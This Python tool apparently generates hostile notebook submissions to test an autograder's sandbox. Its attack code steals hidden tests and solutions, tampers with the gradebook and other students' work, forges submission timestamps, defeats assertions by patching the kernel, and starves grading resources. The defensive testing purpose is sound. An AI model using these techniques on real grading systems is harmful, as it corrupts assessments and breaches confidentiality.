"""Hostile submissions for grading, made from an assignment's notebooks at run time.

    python tools/hostile_corpus.py COURSE [--assignment m06] [--canary-port N] [--memory-mb N]
        [--canary-file PATH] [--flood-mb N] [--skip NAME ...] [--only NAME ...]

submits into ``COURSE/submitted/`` honest notebooks and one submission per attack, and writes
``COURSE/hostile-expected.json``: per student what it attempts, where the attack comes from,
and what grading must make of it. COURSE needs ``source/<id>/`` and ``release/<id>/`` (a scratch
course made by ``welfaregrading.course.scratch_course`` and ``generate``). Nothing here is stored
student work: every notebook is the release, answered from the source, with the attack put in
(the attack code finds what it looks for at run time; it holds no expected value itself).
tests/grading/test_hostile_corpus.py grades the corpus through every autograde path.

Honest submissions (their scores must come out exactly): ``honest-full`` (the source solution),
``honest-blank`` (the release unchanged), ``honest-part-missing`` (the last code answer left
out) and ``honest-late`` (the full solution, handed in 10.5 days after the due date).

Every hostile submission answers every part correctly except where the attack sits, in the
last code answer (or in the submission's files). Sources of the attacks:

Sandbox review (issue 8), with the real course's absolute paths, as an attacker who knows the
layout would write them:

- ``read-source``: read the source notebook and print it (solutions and hidden tests);
- ``write-root``: write a file at the course root;
- ``gradebook``: change every score in ``gradebook.db`` and add a table;
- ``other-student``: overwrite another student's submission and plant a file in their folder;
- ``network``: connect to a listener of the grader on 127.0.0.1 (``--canary-port``), then to
  an address on the internet;
- ``fork``: start a process that outlives the cell (it would outlive the kernel too);
- ``memory``: allocate 8 times the grading kernel's memory limit.

Security review of the grading pipeline (issue 11), attacks 1 to 6 (attack 7, impersonation at
the collect stage, is in tests/grading/test_collect_hostile.py):

1. ``self-answer``: read every file reachable from the kernel's working folder, its parents,
   the course root guessed from ``sys.prefix``/``sys.executable`` (a course's venv lives in the
   course), ``/proc/self/cwd`` and the paths in ``sys.argv`` and the environment; find hidden
   tests and expected values in any notebook, gradebook or text file (``abs(name - value)``
   conditions), set the answers from them, and print everything it found.
2. symlinks planted in the submission (the kernel's folder): ``symlink-notebook`` (the
   notebook itself is a link to ``source/<id>/<notebook>``), ``symlink-files`` (links to
   ``gradebook.db``, ``nbgrader_config.py``, a canary file outside the course, and links named
   like data files to the source notebook; the answer reads them as in 1), ``symlink-dev-zero``
   (a data file that is a link to ``/dev/zero``).
3. ``lateness``: a submission 10.5 days late whose code overwrites ``timestamp.txt`` wherever
   the kernel can (its folder, the parents, the course's ``submitted/`` copy) with an on-time
   date.
4. ``leak-feedback``: the right answer, then every hidden test and expected value it can find
   (files as in 1, and the source of every later cell through a ``pre_run_cell`` hook) printed
   encoded: base64, ROT13, marker lines stripped, digits spelled out, reversed;
   ``leak-fallback``: the same hook, with an answer of a type that is not plain data (a grader
   that checks answers outside the kernel may fall back to running that test in the kernel,
   where the hook sees it).
5. in-kernel tampering, each with a wrong answer that the tampering must make pass:
   ``tamper-hooks`` (a custom exception handler, no tracebacks, and a ``post_run_cell`` hook
   that clears ``error_in_exec``), ``tamper-transformer`` (an input transformer that rewrites
   ``assert`` lines), ``tamper-run-code`` (``InteractiveShell.run_code`` replaced by one that
   swallows errors), ``tamper-builtins`` (``abs``, ``isinstance``, ``len`` patched in the
   user namespace and in ``builtins``), ``tamper-float`` (a ``float`` subclass that equals
   anything: ``__eq__``/``__lt__``/``__gt__`` always true, ``__sub__`` returning 0).
6. one submission that would starve the batch: ``starve-deep-json`` (the notebook is JSON
   nested 100,000 deep: RecursionError), ``starve-fifo`` (a FIFO at the notebook's name, as a
   hostile archive could make), ``starve-stdout`` (one cell writes ``--flood-mb`` MB of stdout;
   the review's 1.5 GB, made smaller to keep the test fast, still far beyond every cap),
   ``starve-many-files`` (a 10,000-file tree beside the notebook), ``starve-many-files-run``
   (the code writes 10,000 files and a ``--flood-mb`` MB file into its folder while graded).

What grading must make of each hostile submission (``accept`` in the JSON): refused or failed
with a reason, or flagged for review with a reason, or graded with the attacked part scoring 0
(``scores``: exactly like ``honest-part-missing``); never a clean full score from the attack,
and never a side effect (a file changed outside its folder, a secret or the canary file's text
in an output or feedback page, a forged timestamp, a network call, a process left running).
"""

from __future__ import annotations

import argparse
import copy
import datetime as dt
import hashlib
import inspect
import json
import os
import re
import re as _re
import secrets as _random
import sys
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

import welfaregrading as wg  # noqa: E402
import welfaregrading.samples  # noqa: E402

#: Marker in the command line of the process the ``fork`` attack leaves running.
FORK_MARKER = "welfarelab-hostile-fork"
#: The victim of ``other-student`` (an honest submission in the same batch).
VICTIM = "honest-full"
PLANTED = "planted-by-hostile.txt"
ROOT_FILE = "written-by-hostile.txt"
#: First line of the report that the probe (attacks 1, 2, 4) prints: what it could read.
PROBE_TAG = "HOSTILE-PROBE "
#: The due date of the corpus (the test sets it in the course) and the submission times.
DUE = dt.datetime(2025, 3, 30, 21, 59, tzinfo=dt.UTC)
ON_TIME = DUE - dt.timedelta(days=1)
LATE = DUE + dt.timedelta(days=10, hours=12)
#: Groups of the security review (issue 11); 0 is the sandbox review (issue 8).
GROUPS = {0: "sandbox review (issue 8)", 1: "self-answer", 2: "symlinks in the submission",
          3: "lateness forgery", 4: "hidden tests leaked into the feedback",
          5: "in-kernel tampering", 6: "one submission starves the batch"}
MANY_FILES = 10_000


def _nbg(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _norm(text: str) -> str:
    return " ".join(text.split())


# ---------------------------------------------------------------------------------------------
# What must stay secret, found in the source
# ---------------------------------------------------------------------------------------------

def conditions_in(text):
    """Every `abs(...) < number` in text (a hidden test's condition), whitespace normalised.
    (Also the probe's own: its source goes into the attack code.)"""
    out, i = [], text.find("abs(")
    while i >= 0 and len(out) < 500:
        depth, j = 0, i + 3
        while j < len(text) and j - i < 400:
            depth += {"(": 1, ")": -1}.get(text[j], 0)
            if depth == 0:
                break
            j += 1
        m = _re.match(r"\s*<\s*[0-9.eE+-]+", text[j + 1:j + 40])
        if depth == 0 and m:
            out.append(" ".join((text[i:j + 1] + m.group(0)).split()))
        i = text.find("abs(", i + 4)
    return out


def hidden_conditions(source_nb) -> list[str]:
    """The condition of every hidden-test ``assert`` (it holds the expected value)."""
    found = []
    for cell in source_nb.cells:
        if "### BEGIN HIDDEN TESTS" not in cell.source:
            continue
        hidden = cell.source.split("### BEGIN HIDDEN TESTS", 1)[1].split("### END HIDDEN TESTS")[0]
        found += [c for c in conditions_in(hidden) if c not in found]
    return found


def expected_values(source_nb) -> list[str]:
    """The numbers in the hidden tests' conditions that are answers: those left of the ``<``
    with at least three significant digits (not tolerances, not small inputs such as rates)."""
    values = []
    for condition in hidden_conditions(source_nb):
        left = condition.rsplit("<", 1)[0]
        for number in re.findall(r"(?<![\w.])\d+(?:\.\d+)?(?![\w.])", left):
            if len(number.replace(".", "").lstrip("0")) >= 3 and number not in values:
                values.append(number)
    return values


def secrets(source_nb, release_nb, attacked: str | None = None) -> list[str]:
    """Text that must never reach an autograded notebook's outputs or any feedback: each hidden
    test's condition (it holds the expected value) and the model answers of written parts; with
    ``attacked``, that answer's solution lines instead (minus lines the release shows)."""
    release_text = "\n".join(c.source for c in release_nb.cells)
    found = [] if attacked else list(hidden_conditions(source_nb))
    for cell in source_nb.cells:
        meta = _nbg(cell)
        if meta.get("solution") and (meta.get("grade_id") == attacked if attacked
                                     else cell.cell_type == "markdown"):
            body = wg.samples.solution_code(cell.source)
            found += [line.strip() for line in body.splitlines()
                      if len(line.strip()) >= 20 and line.strip() not in release_text]
    return [s for s in found if len(s) >= 12]


# ---------------------------------------------------------------------------------------------
# The code of the attacks
# ---------------------------------------------------------------------------------------------

#: Finds hidden tests in every file the kernel can read; sets ``_found`` (texts), ``_report``.
#: Placeholders: __HASHES__ (sha256 of hidden conditions, mark-scheme lines, expected values),
#: __QUIET__ (print the report and the texts or not).
PROBE = r'''
import base64 as _b64, hashlib as _hl, json as _json, os as _os, re as _re, stat as _st, sys as _sys
_H = __HASHES__
_MARKS = ["BEGIN " + "HIDDEN TESTS", "BEGIN " + "MARK SCHEME", "BEGIN " + "SOLUTION",
          "shown to " + "graders only"]
def _sha(s):
    return _hl.sha256(s.encode()).hexdigest()
__CONDITIONS__
_conditions = conditions_in
def _texts(raw, path):
    text = raw.decode("utf-8", "replace")
    if path.endswith(".ipynb") or text.lstrip().startswith("{"):
        try:
            nb = _json.loads(text)
            cells = nb.get("cells", []) if isinstance(nb, dict) else []
            return [text] + ["".join(c.get("source", "")) for c in cells if isinstance(c, dict)]
        except Exception:
            pass
    return [text, text.replace("\\n", "\n").replace('\\"', '"')]
def _kinds(texts):
    kinds = set()
    for text in texts:
        if any(m in text for m in _MARKS):
            kinds.add("marker")
        if any(_sha(c) in _H["conditions"] for c in _conditions(text)):
            kinds.add("hidden test")
        for line in text.splitlines():
            if 20 <= len(line) <= 400:
                line = " ".join(line.strip().strip('",').split())
                if _sha(line) in _H["lines"]:
                    kinds.add("mark scheme or solution")
        numbers = set(_re.findall(r"\d{2,}(?:\.\d+)?|\d\.\d{2,}", text))
        if any(_sha(n) in _H["values"] for n in numbers):
            kinds.add("expected value")
    return sorted(kinds)
def _roots():
    cwd = _os.getcwd()
    roots, p = [cwd, "/proc/self/cwd", "/tmp", _os.path.expanduser("~")], cwd
    for _ in range(5):
        p = _os.path.dirname(p)
        roots.append(p)
    for base in (_sys.prefix, _sys.executable, _os.path.realpath(_sys.executable)):
        p = base
        for _ in range(3):
            p = _os.path.dirname(p)
            roots.append(p)
    for pid in ("1", str(_os.getppid())):
        roots.append("/proc/%s/cwd" % pid)
    for a in list(_sys.argv) + list(_os.environ.values()):
        if a.startswith("/") and _os.path.exists(a):
            roots.append(a if _os.path.isdir(a) else _os.path.dirname(a))
    out = []
    for r in roots:
        if r and r != "/" and r not in out:
            out.append(r)
    return out
_SKIP = {"site-packages", "dist-packages", "__pycache__", ".git", "node_modules", "proc", "sys",
         "dev", "usr", "etc", "bin", "sbin", "lib", "lib64", "include", "share", "fonts"}
def _scan(budget_files=3000, budget_bytes=60 * 2 ** 20, budget_seconds=12):
    import time as _time
    found, report, seen, nbytes = {}, {"files": 0, "hits": [], "roots": _roots()}, set(), 0
    queue, stop = [(r, 0) for r in report["roots"]], _time.monotonic() + budget_seconds
    while queue and report["files"] < budget_files and nbytes < budget_bytes \
            and _time.monotonic() < stop:
        folder, depth = queue.pop(0)
        try:
            real = _os.path.realpath(folder)
            if real in seen or _os.path.exists(_os.path.join(folder, "pyvenv.cfg")):
                continue
            seen.add(real)
            names = sorted(_os.listdir(folder))[:300]
        except OSError:
            continue
        for name in names:
            path = _os.path.join(folder, name)
            try:
                st = _os.stat(path)
            except OSError:
                continue
            if _st.S_ISDIR(st.st_mode):
                if depth < 6 and name not in _SKIP and not _os.path.islink(path):
                    queue.append((path, depth + 1))
                continue
            if not _st.S_ISREG(st.st_mode) and not path.startswith("/proc/"):
                continue
            report["files"] += 1
            try:
                with open(path, "rb") as fh:
                    raw = fh.read(2 ** 20)
            except OSError:
                continue
            nbytes += len(raw)
            texts = _texts(raw, path)
            kinds = _kinds(texts)
            if kinds:
                found[path] = texts
                if len(report["hits"]) < 40:
                    report["hits"].append([path, kinds])
    return found, report
def _answers(found):
    """{name: value} from every `abs(name - expression) < tolerance` found."""
    import math
    try:
        import numpy_financial as npf
    except ImportError:
        npf = None
    out = {}
    for texts in found.values():
        for text in texts:
            for cond in _conditions(text):
                m = _re.match(r"abs\(\s*([A-Za-z_]\w*)\s*-\s*(.+)\)\s*<", cond)
                if m and m.group(1) not in out:
                    try:
                        out[m.group(1)] = float(eval(m.group(2), {"npf": npf, "math": math}))
                    except Exception:
                        pass
    return out
_found, _report = _scan()
_report["answers"] = sorted(_answers(_found))
if not __QUIET__:
    print("__TAG__" + _json.dumps(_report))
    for _path, _kinds in _report["hits"]:
        if set(_kinds) - {"marker"}:  # (markers alone: the grading code names them)
            print("== " + _path)
            print(_found[_path][0][:3000])
'''

SELF_ANSWER = '''
globals().update(_answers(_found))
print("set from what was found:", sorted(_answers(_found)))
'''

#: Prints found texts and every later cell's source, encoded so that a check for plain text
#: misses it.
LEAK = r'''
import codecs as _codecs
_WORDS = "zero one two three four five six seven eight nine".split()
def _encodings(text):
    yield "B64 " + _b64.b64encode(text.encode()).decode()
    yield "R13 " + _codecs.encode(text, "rot13")
    yield "STRIP " + "\n".join(l for l in text.splitlines() if "#" + "##" not in l)
    yield "SPELL " + "".join(_WORDS[int(c)] + " " if c.isdigit() else c for c in text)
    yield "REV " + text[::-1]
for _t in [t for ts in _found.values() for t in ts[1:] or ts][:10]:
    if "assert" in _t or "abs(" in _t:
        for _e in _encodings(_t[:2000]):
            print(_e)
def _leak_hook(info):
    if "assert" in (info.raw_cell or ""):
        for _e in _encodings(info.raw_cell):
            print(_e)
get_ipython().events.register("pre_run_cell", _leak_hook)
'''

#: An answer of a type that is not plain data (a checker outside the kernel cannot receive it).
OPAQUE = """
class Opaque:
    def __repr__(self):
        return '0.5'
switching_deadweight_a = Opaque()
"""

TAMPER = {
    "tamper-hooks": (
        ("a custom exception handler, no tracebacks, and a post_run_cell hook that clears "
        "error_in_exec, so a failing test shows no error"),
        ("ip = get_ipython()\n"
        "def _quiet(shell, etype, value, tb, tb_offset=None):\n"
        "    return []\n"
        "ip.set_custom_exc((BaseException,), _quiet)\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n"
        "def _clear(result):\n"
        "    result.error_in_exec = None\n"
        "    result.error_before_exec = None\n"
        "ip.events.register('post_run_cell', _clear)\n"
        "switching_deadweight_a = 0.5  # wrong\n")),
    "tamper-transformer": (
        "an input transformer that rewrites every assert line so it always holds",
        ("import re\n"
        "def _no_asserts(lines):\n"
        "    return [re.sub(r'^(\\s*)assert\\b', r'\\1assert True or ', line) for line in lines]\n"
        "get_ipython().input_transformers_post.append(_no_asserts)\n"
        "switching_deadweight_a = 0.5  # wrong\n")),
    "tamper-run-code": (
        "replaces InteractiveShell.run_code by one that swallows every error",
        ("ip = get_ipython()\n"
        "async def _run_code(code_obj, result=None, *, async_=False):\n"
        "    try:\n"
        "        exec(code_obj, ip.user_global_ns, ip.user_ns)\n"
        "    except BaseException:\n"
        "        pass\n"
        "    return False\n"
        "ip.run_code = _run_code\n"
        "switching_deadweight_a = 0.5  # wrong\n")),
    "tamper-builtins": (
        "patches abs, isinstance and len (user namespace and builtins) so the checks pass",
        ("import builtins, sys\n"
        "_real = {n: getattr(builtins, n) for n in ('abs', 'isinstance', 'len')}\n"
        "def _from_cells():\n"
        "    name = sys._getframe(2).f_code.co_filename\n"
        "    return 'ipykernel_' in name or name.startswith('<')\n"
        "def abs(x):\n"
        "    return 0 if _from_cells() else _real['abs'](x)\n"
        "def isinstance(obj, kind):\n"
        "    return True if _from_cells() else _real['isinstance'](obj, kind)\n"
        "def len(obj):\n"
        "    return 3 if _from_cells() else _real['len'](obj)\n"
        "builtins.abs, builtins.isinstance, builtins.len = abs, isinstance, len\n"
        "switching_deadweight_a = 0.5  # wrong\n")),
    "tamper-float": (
        ("answers with a float subclass that equals anything (__eq__, __lt__, __gt__ always "
        "true, __sub__ returning 0)"),
        ("class AnyFloat(float):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    __le__ = __gt__ = __ge__ = __lt__\n"
        "    def __sub__(self, other): return 0.0\n"
        "    __rsub__ = __sub__\n"
        "    def __abs__(self): return 0.0\n"
        "    __hash__ = float.__hash__\n"
        "switching_deadweight_a = AnyFloat(0.5)  # wrong, but equal to anything\n")),
}


def probe(hashes: dict, quiet: bool = False) -> str:
    return (PROBE.replace("__HASHES__", json.dumps(hashes))
            .replace("__CONDITIONS__", inspect.getsource(conditions_in))
            .replace("__QUIET__", "True" if quiet else "False").replace("__TAG__", PROBE_TAG))


def attacks(course: Path, assignment: str, notebook: str, canary_port: int,
            memory_mb: int, fork_marker: str = FORK_MARKER, tag: str = "") -> dict:
    """The sandbox review's attacks (issue 8): ``{name: (what it attempts, answer cell code)}``
    for a course at ``course`` (its real absolute paths)."""
    root = str(Path(course).resolve())
    return {
        "read-source": (
            "reads the source notebook (solutions, hidden tests) and prints it",
            ("import glob, json\n"
            f"paths = sorted(glob.glob({root!r} + '/source/*/*.ipynb'))\n"
            f"paths = paths or [{root!r} + '/source/{assignment}/{notebook}']\n"
            "for path in paths:\n"
            "    with open(path) as fh:\n"
            "        for cell in json.load(fh)['cells']:\n"
            "            print(''.join(cell['source']))\n")),
        "write-root": (
            "writes a file at the course root",
            (f"with open({root!r} + '/{ROOT_FILE}', 'w') as fh:\n"
            "    fh.write('a student was here')\n")),
        "gradebook": (
            "gives itself full marks in gradebook.db",
            ("import sqlite3\n"
            f"db = sqlite3.connect('file:' + {root!r} + '/gradebook.db?mode=rw', uri=True)\n"
            "db.execute('UPDATE grade SET manual_score = 100')\n"
            "db.execute('CREATE TABLE hostile (x)')\n"
            "db.commit()\n")),
        "other-student": (
            f"overwrites the submission of {VICTIM} and plants a file in its folder",
            (f"victim = {root!r} + '/submitted/{VICTIM}/{assignment}'\n"
            f"with open(victim + '/{notebook}', 'w') as fh:\n"
            "    fh.write('{}')\n"
            f"with open({root!r} + '/autograded/{VICTIM}/{assignment}/{PLANTED}', 'w') as fh:\n"
            "    fh.write('planted')\n")),
        "network": (
            "opens network connections (the grader's own machine, then the internet)",
            ("import socket\n"
            f"for host, port in [('127.0.0.1', {int(canary_port)}), ('1.1.1.1', 80)]:\n"
            "    with socket.create_connection((host, port), timeout=5) as conn:\n"
            f"        conn.sendall(b'hostile submission calling {tag}')\n")),
        "fork": (
            "starts a process that outlives the cell",
            ("import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import time\\nwhile True: time.sleep(0.2)',"
            f" {fork_marker!r}], start_new_session=True, stdin=subprocess.DEVNULL,"
            " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")),
        "memory": (
            f"allocates {8 * memory_mb} MB, 8 times the kernel's memory limit",
            f"blob = bytearray({8 * memory_mb} * 1024 * 1024)\n"),
    }


def lateness_code(answer: str) -> str:
    stamp = ON_TIME.strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    return answer + "\n" + (
        "import os\n"
        f"ON_TIME = {stamp!r}\n"
        "cwd = os.getcwd()\n"
        "targets, p = [os.path.join(cwd, 'timestamp.txt')], cwd\n"
        "for _ in range(4):\n"
        "    p = os.path.dirname(p)\n"
        "    targets.append(os.path.join(p, 'timestamp.txt'))\n"
        "parts = cwd.rstrip('/').split('/')\n"
        "if len(parts) > 3:  # <course>/autograded/<student>/<id>: the course's own copies\n"
        "    root, me, aid = '/'.join(parts[:-3]), parts[-2], parts[-1]\n"
        "    targets += [f'{root}/submitted/{me}/{aid}/timestamp.txt',\n"
        "                f'{root}/build/grading/{aid}/staged/{me}/{aid}/timestamp.txt']\n"
        "for path in targets:\n"
        "    try:\n"
        "        if os.path.basename(path) == 'timestamp.txt' and (os.path.exists(path)\n"
        "                                                          or path == targets[0]):\n"
        "            with open(path, 'w') as fh:\n"
        "                fh.write(ON_TIME)\n"
        "            print('set on time:', path)\n"
        "    except OSError as err:\n"
        "        print('could not write', path, type(err).__name__)\n")


def symlink_files_code(hashes: dict) -> str:
    return probe(hashes) + (
        "import os\n"
        "for name in sorted(os.listdir('.')):\n"
        "    if os.path.islink(name):\n"
        "        print('link', name, '->', os.readlink(name))\n"
        "        try:\n"
        "            with open(name, 'rb') as fh:\n"
        "                print(fh.read(2000).decode('utf-8', 'replace'))\n"
        "        except OSError as err:\n"
        "            print('  cannot read', type(err).__name__)\n") + SELF_ANSWER


def stdout_flood_code(answer: str, mb: int) -> str:
    return answer + "\n" + (
        "import sys\n"
        "line = 'flood ' * 166 + '\\n'  # 1,000 characters\n"
        "block = line * 1000\n"
        f"for _ in range({int(mb)}):\n"
        "    sys.stdout.write(block)\n")


def many_files_run_code(answer: str, mb: int) -> str:
    return answer + "\n" + (
        "import os\n"
        "os.makedirs('made-while-graded', exist_ok=True)\n"
        f"for i in range({MANY_FILES}):\n"
        "    with open(f'made-while-graded/{i:05d}.txt', 'w') as fh:\n"
        "        fh.write('x')\n"
        "with open('made-while-graded/big.bin', 'wb') as fh:\n"
        f"    for _ in range({int(mb)}):\n"
        "        fh.write(b'0' * 2 ** 20)\n")


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

def build(course: Path, assignment: str = "m06", canary_port: int = 9,
          memory_mb: int = 2048, canary_file: Path | None = None, flood_mb: int = 200,
          skip: list[str] | tuple = (), only: list[str] | tuple = ()) -> dict:
    """Submit the honest and hostile submissions into ``course``; return (and write to
    ``course/hostile-expected.json``) per student: ``kind``, ``group``, ``source``,
    ``attempt``, ``accept``, the expected score of every auto-graded cell if the attack is
    blocked, the expected lateness, and the ``secrets`` lists.

    ``canary_file``: a file outside the course that a planted link points to (default: a new
    ``hostile-canary-<tag>.txt`` beside the course, holding a random token). ``skip``: attack
    names to leave out (to look at the others when one of them hangs the batch); ``only``:
    the names to make (default: all)."""
    course = Path(course).resolve()
    tag = hashlib.sha1(str(course).encode()).hexdigest()[:10]
    fork_marker = f"{FORK_MARKER}-{tag}"
    release_dir, source_dir = course / "release" / assignment, course / "source" / assignment
    release_path = min(release_dir.glob("*.ipynb"))
    name = release_path.name
    release_nb = nbformat.read(release_path, as_version=4)
    source_nb = nbformat.read(source_dir / name, as_version=4)
    full = wg.samples.answered(release_nb, source_nb)
    for cell in full.cells:  # a written answer of the student's own, not the model answer
        if _nbg(cell).get("solution") and cell.cell_type == "markdown":
            cell.source = wg.samples.SAMPLE_WRITTEN

    if canary_file is None:
        canary_file = course.parent / f"hostile-canary-{tag}.txt"
        canary_file.write_text(f"canary-outside-the-course-{_random.token_hex(12)}\n")
    canary_file = Path(canary_file).resolve()
    canary_token = canary_file.read_text().strip()

    answers = [i for i, c in enumerate(full.cells)
               if _nbg(c).get("solution") and c.cell_type == "code"]
    target = answers[-1]
    attacked = _nbg(full.cells[target])["grade_id"]
    answer_code = full.cells[target].source
    tests = {_nbg(c)["grade_id"]: float(_nbg(c).get("points", 0))
             for c in full.cells if _nbg(c).get("grade") and not _nbg(c).get("solution")}
    # the tests after the attacked answer check it (it is the last code answer)
    broken = [_nbg(c)["grade_id"] for c in full.cells[target + 1:]
              if _nbg(c).get("grade") and not _nbg(c).get("solution")]
    full_marks = dict(tests)
    missing_part = {gid: (0.0 if gid in broken else pts) for gid, pts in tests.items()}
    zero = dict.fromkeys(tests, 0.0)

    conditions = hidden_conditions(source_nb)
    values = expected_values(source_nb)
    value_forms = set(values) | {v.rstrip("0").rstrip(".") for v in values if "." in v}
    mark_lines = [_norm(s) for s in secrets(source_nb, release_nb) if s not in conditions]
    hashes = {"conditions": sorted(_sha(c) for c in conditions),
              "lines": sorted(_sha(s) for s in mark_lines),
              "values": sorted(_sha(v) for v in value_forms)}

    def replaced(code: str):
        nb = copy.deepcopy(full)
        nb.cells[target].source = code
        return nb

    stub = release_nb.cells[next(i for i, c in enumerate(release_nb.cells)
                             if _nbg(c).get("grade_id") == attacked)].source
    late = (LATE - DUE).total_seconds()
    accept_blocked = ["refused", "flagged", "part scores 0"]
    #: name: (kind, group, attempt, notebook or None, scores if blocked, when, accept)
    plan = {
        "honest-full": ("honest", None, "the full solution", full, full_marks, ON_TIME,
                        ["exact"]),
        "honest-blank": ("honest", None, "the blank release", copy.deepcopy(release_nb), zero,
                         ON_TIME, ["exact"]),
        "honest-part-missing": ("honest", None, f"{attacked} left unanswered", replaced(stub),
                                missing_part, ON_TIME, ["exact"]),
        "honest-late": ("honest", None, "the full solution, 10.5 days late", full, full_marks,
                        LATE, ["exact"]),
    }
    for kind, (attempt, code) in attacks(course, assignment, name, canary_port, memory_mb,
                                         fork_marker, tag).items():
        plan[kind] = ("hostile", 0, attempt, replaced(code), missing_part, ON_TIME,
                      accept_blocked)
    plan["self-answer"] = (
        "hostile", 1, ("reads every file it can reach (its folder, the parents, the course root "
        "guessed from sys.prefix, /proc/self/cwd), sets the answer from hidden tests it finds "
        "and prints them"), replaced(probe(hashes) + SELF_ANSWER), missing_part, ON_TIME,
        accept_blocked)
    plan["symlink-notebook"] = (
        "hostile", 2, f"the notebook is a symlink to source/{assignment}/{name}", None, zero,
        ON_TIME, ["refused", "flagged", "part scores 0"])
    plan["symlink-files"] = (
        "hostile", 2, ("links to gradebook.db, nbgrader_config.py, a canary file outside the "
        "course and (named like data files) to the source notebook; the answer reads them"),
        replaced(symlink_files_code(hashes)), missing_part, ON_TIME, accept_blocked)
    plan["symlink-dev-zero"] = (
        "hostile", 2, "a data file that is a symlink to /dev/zero", full, full_marks, ON_TIME,
        ["refused", "flagged"])
    plan["lateness"] = (
        "hostile", 3, ("10.5 days late; its code overwrites timestamp.txt wherever it can with "
        "an on-time date"), replaced(lateness_code(answer_code)), full_marks, LATE,
        ["exact", "refused", "flagged"])
    plan["leak-fallback"] = (
        "hostile", 4, ("answers with a value of a type the grader cannot pass on as data (so "
                       "the test may run in the student's kernel), with the pre_run_cell hook "
                       "of leak-feedback printing each later cell encoded"),
        replaced(probe(hashes, quiet=True) + LEAK + OPAQUE), missing_part, ON_TIME,
        accept_blocked)
    plan["leak-feedback"] = (
        "hostile", 4, ("prints hidden tests and expected values it finds (files, and later "
        "cells through a pre_run_cell hook) in base64, ROT13, markers stripped, digits "
        "spelled, reversed"), replaced(answer_code + "\n" + probe(hashes, quiet=True) + LEAK),
        full_marks, ON_TIME, ["exact", "refused", "flagged"])
    for kind, (attempt, code) in TAMPER.items():
        plan[kind] = ("hostile", 5, attempt, replaced(code), missing_part, ON_TIME,
                      accept_blocked)
    plan["starve-deep-json"] = (
        "hostile", 6, "the notebook is JSON nested 100,000 deep (RecursionError)", None, zero,
        ON_TIME, ["refused"])
    plan["starve-fifo"] = (
        "hostile", 6, "a FIFO at the notebook's name", None, zero, ON_TIME, ["refused"])
    plan["starve-stdout"] = (
        "hostile", 6, f"writes {flood_mb} MB to stdout in one cell",
        replaced(stdout_flood_code(answer_code, flood_mb)), full_marks, ON_TIME,
        ["contained", "refused", "flagged", "part scores 0"])
    plan["starve-many-files"] = (
        "hostile", 6, f"a tree of {MANY_FILES:,} files beside the notebook", full, full_marks,
        ON_TIME, ["refused"])
    plan["starve-many-files-run"] = (
        "hostile", 6, (f"writes {MANY_FILES:,} files and {flood_mb} MB into its folder while "
        "graded"), replaced(many_files_run_code(answer_code, flood_mb)), full_marks, ON_TIME,
        ["contained", "refused", "flagged"])
    plan = {sid: p for sid, p in plan.items()
            if sid not in set(skip) and (not only or sid in set(only))}

    expected = {
        "assignment": assignment, "notebook": name, "attacked": attacked,
        "broken_tests": broken, "secrets": secrets(source_nb, release_nb),
        # the attacked part's solution: only the full solutions may show it (their own code)
        "answer_secrets": secrets(source_nb, release_nb, attacked),
        "hidden_conditions": conditions, "expected_values": values,
        "mark_scheme": mark_lines, "probe_tag": PROBE_TAG, "tag": tag,
        "fork_marker": fork_marker, "victim": VICTIM, "planted": PLANTED,
        "root_file": ROOT_FILE, "canary_file": str(canary_file), "canary_token": canary_token,
        "due": DUE.strftime("%Y-%m-%d %H:%M:%S UTC"), "groups": GROUPS, "students": {}}
    for student, (kind, group, attempt, nb, scores, when, accept) in plan.items():
        folder = course / "submitted" / student / assignment
        if nb is not None:
            wg.samples.submit(course, assignment, student, nb, name, when=when)
        else:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "timestamp.txt").write_text(when.strftime("%Y-%m-%d %H:%M:%S.%f %Z"))
        expected["students"][student] = {
            "kind": kind, "group": group,
            "source": (None if group is None else
                       f"{'security review (issue 11)' if group else 'sandbox review (issue 8)'}"
                       f", {GROUPS[group]}" + (f" (attack {group})" if group else "")),
            "attempt": attempt, "scores": scores, "accept": accept,
            "late_seconds": late if when == LATE else 0.0}
    _plant(course, assignment, name, canary_file, expected["students"])
    (course / "hostile-expected.json").write_text(json.dumps(expected, indent=1))
    return expected


def _plant(course: Path, assignment: str, name: str, canary_file: Path, students) -> None:
    """The attacks that live in the submission's files rather than in its code."""
    def folder(student):
        return course / "submitted" / student / assignment

    if "symlink-notebook" in students:
        os.symlink(course / "source" / assignment / name, folder("symlink-notebook") / name)
    if "symlink-files" in students:
        links = {"gradebook.db": course / "gradebook.db",
                 "nbgrader_config.py": course / "nbgrader_config.py",
                 "canary.txt": canary_file,
                 "data.csv": course / "source" / assignment / name,
                 "funding_mix.csv": course / "source" / assignment / name,
                 "answers.json": course / "source" / assignment / name}
        for link, target in links.items():
            os.symlink(target, folder("symlink-files") / link)
    if "symlink-dev-zero" in students:
        os.symlink("/dev/zero", folder("symlink-dev-zero") / "zeros.csv")
    if "starve-deep-json" in students:
        depth = 100_000
        (folder("starve-deep-json") / name).write_text(
            '{"cells": [' + "[" * depth + "]" * depth + '], "metadata": {}, '
            '"nbformat": 4, "nbformat_minor": 5}')
    if "starve-fifo" in students:
        os.mkfifo(folder("starve-fifo") / name)
    if "starve-many-files" in students:
        for i in range(MANY_FILES):
            sub = folder("starve-many-files") / "junk" / f"d{i // 100:03d}"
            if i % 100 == 0:
                sub.mkdir(parents=True, exist_ok=True)
            (sub / f"f{i % 100:02d}.txt").write_text("x")


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("course", type=Path)
    parser.add_argument("--assignment", default="m06")
    parser.add_argument("--canary-port", type=int, default=9)
    parser.add_argument("--memory-mb", type=int, default=2048)
    parser.add_argument("--canary-file", type=Path, default=None,
                        help="a file outside the course that a planted link points to")
